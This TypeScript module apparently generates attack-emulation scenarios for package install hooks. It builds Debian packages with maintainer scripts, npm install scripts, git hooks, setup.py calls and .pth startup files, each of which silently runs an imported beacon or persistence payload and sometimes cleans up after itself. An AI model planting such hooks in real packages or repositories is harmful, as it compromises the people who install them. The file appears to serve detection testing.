import type { Attack } from '../scenario.ts';
import { look, maybe, quote, root, workFolder, write } from '../ways.ts';
import { callOut, stayer } from './beacon.ts';

/** A package of the system runs a script of another when it is installed. */
const deb: Attack = {
  name: 'package-script-debian',
  family: 'package-script',
  techniques: ['T1195.002', 'T1546.016', 'T1059.004'],
  as: 'either',
  needs: ['dpkg-deb', 'dpkg', 'curl', 'wget', 'nc', 'python3', 'sudo'],
  lines: (draw, place) => {
    const name = draw.word();
    const folder = workFolder(draw, place);
    const hook = draw.pick(['postinst', 'preinst', 'prerm', 'postinst']);
    const { body } = stayer(draw, place);
    const job = draw.chance(0.5)
      ? `(${callOut(draw, place)}) > /dev/null 2>&1 &`
      : `/usr/bin/${name} > /dev/null 2>&1 &`;
    return [
      ...look(draw, draw.int(0, 2)),
      `mkdir -p ${folder}/${name}/DEBIAN ${folder}/${name}/usr/bin`,
      `printf 'Package: ${name}\\nVersion: ${draw.int(1, 5)}.${draw.int(0, 20)}\\nArchitecture: all\\nMaintainer: ${draw.word()} <${draw.word()}@${draw.word()}.org>\\nDescription: ${draw.word()} ${draw.word()}\\n' > ${folder}/${name}/DEBIAN/control`,
      write(draw, `${folder}/${name}/usr/bin/${name}`, body),
      write(draw, `${folder}/${name}/DEBIAN/${hook}`, `#!/bin/sh\nset -e\n${job}\nexit 0`),
      `chmod 755 ${folder}/${name}/DEBIAN/${hook} ${folder}/${name}/usr/bin/${name}`,
      `dpkg-deb --root-owner-group -b ${folder}/${name} ${folder}/${name}.deb`,
      root(place, `${draw.pick(['dpkg -i', 'dpkg --install'])} ${folder}/${name}.deb`),
      `sleep ${draw.int(5, 25)}`,
      ...(hook === 'prerm'
        ? [root(place, `dpkg -r ${name}`)]
        : maybe(draw, 0.3, root(place, `dpkg -r ${name}`))),
      ...maybe(draw, 0.4, `rm -rf ${folder}`),
    ];
  },
};

/** A package of a language, or a repository, does the same. */
const project: Attack = {
  name: 'package-script-project',
  family: 'package-script',
  techniques: ['T1195.001', 'T1059.007', 'T1546'],
  as: 'either',
  needs: ['npm', 'git', 'python3', 'curl', 'wget', 'nc', 'node'],
  lines: (draw, place) => {
    const name = draw.word();
    const folder = `${workFolder(draw, place)}/${draw.word()}`;
    const job = `${callOut(draw, place)} > /dev/null 2>&1`;
    const file = `${folder}/${draw.word()}.js`;
    const npm = [
      `printf '%s\\n' ${quote(JSON.stringify({ name, version: '1.0.0', scripts: { [draw.pick(['postinstall', 'preinstall', 'install'])]: draw.chance(0.5) ? `node ${file.split('/').at(-1)}` : job } }))} > ${folder}/package.json`,
      write(
        draw,
        file,
        `const { exec } = require('child_process');\nconst os = require('os');\nexec(${JSON.stringify(job)}, () => console.log(os.hostname()));`,
      ),
      `cd ${folder} && timeout 60 npm install --offline --no-audit --no-fund`,
      'cd',
    ];
    const git = [
      `cd ${folder} && git init -q . && git config user.email ${draw.word()}@${draw.word()}.org && git config user.name ${draw.word()}`,
      write(
        draw,
        `${folder}/.git/hooks/${draw.pick(['pre-commit', 'post-commit'])}`,
        `#!/bin/sh\n(${job}) &\nexit 0`,
      ),
      `chmod +x ${folder}/.git/hooks/*`,
      `echo ${draw.word()} > ${draw.file('.txt')}; git add -A; git commit -qm "${draw.word()} ${draw.word()}"`,
      'cd',
    ];
    const python = [
      write(
        draw,
        `${folder}/setup.py`,
        `import os\nfrom setuptools import setup\nos.system(${JSON.stringify(job)})\nsetup(name="${name}", version="0.${draw.int(1, 9)}")`,
      ),
      `cd ${folder} && timeout 60 python3 setup.py ${draw.pick(['egg_info', 'build', '--version'])} 2>&1 | tail -2`,
      'cd',
    ];
    const startup = [
      `d=$(python3 -c 'import site; print(site.getusersitepackages())'); mkdir -p $d`,
      `echo ${quote(`import os; os.system(${JSON.stringify(`(${job}) &`)})`)} > $d/${draw.word()}.pth`,
      'python3 -c "print(1)"',
      ...maybe(draw, 0.5, 'rm -f $d/*.pth'),
    ];
    return [
      ...look(draw, draw.int(0, 2)),
      `mkdir -p ${folder}`,
      ...draw.pick([npm, git, python, startup]),
      `sleep ${draw.int(4, 20)}`,
      ...maybe(draw, 0.4, `rm -rf ${folder}`),
    ];
  },
};

export const PACKAGE_HOOKS: readonly Attack[] = [deb, project];
